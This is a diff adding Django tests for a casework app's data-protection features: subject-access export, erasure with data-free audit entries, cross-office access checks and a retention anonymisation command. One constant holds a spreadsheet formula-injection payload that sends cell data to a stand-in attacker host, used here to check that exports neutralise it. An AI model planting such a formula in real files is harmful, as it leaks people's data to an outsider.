@@ -1,0 +1,108 @@
+import io
+import json
+import zipfile
+from datetime import timedelta
+
+from click.testing import CliRunner
+from django.test import Client
+from django.utils import timezone
+
+from compassion.cases.cli import retention
+from compassion.cases.models import Case, Reply, Status
+from compassion.core.models import AuditEntry, Consent, Person
+from compassion.voices.models import Voice
+from tests.cases.conftest import make_case
+from tests.conftest import Cast
+
+HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Open")'
+
+
+def test_it_exports_everything_held_in_one_archive(client: Client, cast: Cast) -> None:
+    Consent.objects.create(person=cast.person, purpose="casework", given=True, source="phone")
+    case = make_case(cast.office, cast.person, heard="Keeping my flat",
+                     body=f"{HYPERLINK}\nMy flat is damp and the café downstairs is loud.")
+    Reply.objects.create(office=cast.office, case=case, person=cast.person, subject="Re: damp",
+                         body="We have written to the landlord.")
+    make_case(cast.other_office, cast.other_person, body="Ken's private words")
+    client.force_login(cast.caseworker)
+    assert client.get(f"/cases/people/{cast.person.pk}/subject-access.zip").status_code == 403
+    client.force_login(cast.manager)
+    response = client.get(f"/cases/people/{cast.person.pk}/subject-access.zip")
+    archive = zipfile.ZipFile(io.BytesIO(response.content))
+    assert set(archive.namelist()) == {"record.json", "record.pdf", "messages.csv", "README.txt"}
+    record = json.loads(archive.read("record.json"))
+    assert record["person"]["email"] == "joan@example.com"
+    assert record["cases"][0]["what_matters_to_you"] == "Keeping my flat"
+    assert "café downstairs" in record["messages"][0]["body"]
+    assert record["replies"][0]["body"] == "We have written to the landlord."
+    assert record["consents"][0]["source"] == "phone"
+    assert record["messages"][0]["body"].startswith("'=HYPERLINK")
+    assert "Ken" not in archive.read("record.json").decode()
+    messages_csv = archive.read("messages.csv").decode()
+    assert "'=HYPERLINK" in messages_csv and '\n"=HYPERLINK' not in messages_csv
+    assert archive.read("record.pdf").startswith(b"%PDF")
+    entry = AuditEntry.objects.get(action="export")
+    assert entry.person == cast.person and entry.user == cast.manager
+
+
+def test_it_erases_on_request_and_audits_without_the_data(client: Client, cast: Cast) -> None:
+    Consent.objects.create(person=cast.person, purpose="casework", given=True)
+    case = make_case(cast.office, cast.person, subject="Joan's debts", heard="My debts",
+                     body="I owe £1,450 to the council, Joan Smith, 4 Mill Lane.")
+    client.force_login(cast.manager)
+    kept = client.post(f"/cases/people/{cast.person.pk}/erase/")
+    assert kept.status_code == 302
+    assert Person.objects.get(pk=cast.person.pk).erased_at is None
+
+    client.post(f"/cases/people/{cast.person.pk}/erase/", {"confirm": "erase"})
+    person = Person.objects.get(pk=cast.person.pk)
+    assert person.erased_at and person.first_name == "" and person.email == ""
+    assert not Consent.objects.filter(person=person).exists()
+    case.refresh_from_db()
+    assert case.subject == "[erased]" and case.heard == ""
+    assert Voice.objects.get(case=case).body == ""
+    entry = AuditEntry.objects.get(action="erase")
+    assert "Joan" not in entry.summary and "debt" not in entry.summary.lower()
+    assert "1 case" in entry.summary
+    search = client.get("/cases/", {"status": "", "q": "Mill Lane"}).content.decode()
+    assert case.reference not in search
+    assert client.get(f"/cases/people/{cast.person.pk}/").status_code == 404
+
+
+def test_it_never_lets_another_office_export_or_erase(client: Client, cast: Cast) -> None:
+    client.force_login(cast.outsider)
+    assert client.get(f"/cases/people/{cast.person.pk}/subject-access.zip").status_code == 404
+    assert client.post(f"/cases/people/{cast.person.pk}/erase/",
+                       {"confirm": "erase"}).status_code == 404
+    assert Person.objects.get(pk=cast.person.pk).erased_at is None
+
+
+def test_retention_dry_run_changes_nothing_then_apply_anonymises(cast: Cast) -> None:
+    long_ago = timezone.now() - timedelta(days=365 * 7)
+    old = make_case(cast.office, cast.person, subject="Old housing case", status=Status.CLOSED,
+                    outcome="helped", closed_at=long_ago, opened_at=long_ago,
+                    body="Old words about my flat.")
+    recent = make_case(cast.office, cast.person, subject="Recent case", status=Status.CLOSED,
+                       outcome="helped", closed_at=timezone.now() - timedelta(days=30))
+    loner = Person.objects.create(office=cast.office, first_name="Lone", email="lone@example.com")
+    lone_case = make_case(cast.office, loner, status=Status.CLOSED, outcome="referred",
+                          closed_at=long_ago, opened_at=long_ago, body="Only ever wrote once.")
+    runner = CliRunner()
+
+    dry = runner.invoke(retention, ["--dry-run"])
+    assert dry.exit_code == 0, dry.output
+    assert "2 case(s) closed over 6 year(s) ago would be anonymised" in dry.output
+    assert Case.objects.get(pk=old.pk).subject == "Old housing case"
+
+    applied = runner.invoke(retention, ["--apply"])
+    assert "2 case(s) anonymised" in applied.output
+    old.refresh_from_db()
+    assert old.subject == "[anonymised]" and old.person is None and old.outcome == "helped"
+    assert Voice.objects.get(case=old).body == ""
+    assert Case.objects.get(pk=recent.pk).subject == "Recent case"
+    assert Person.objects.get(pk=cast.person.pk).erased_at is None
+    assert Person.objects.get(pk=loner.pk).erased_at is not None
+    assert Case.objects.get(pk=lone_case.pk).person is None
+    assert AuditEntry.objects.filter(action="erase", object_type="case").count() == 2
+    again = runner.invoke(retention, ["--apply"])
+    assert "0 case(s) anonymised" in again.output
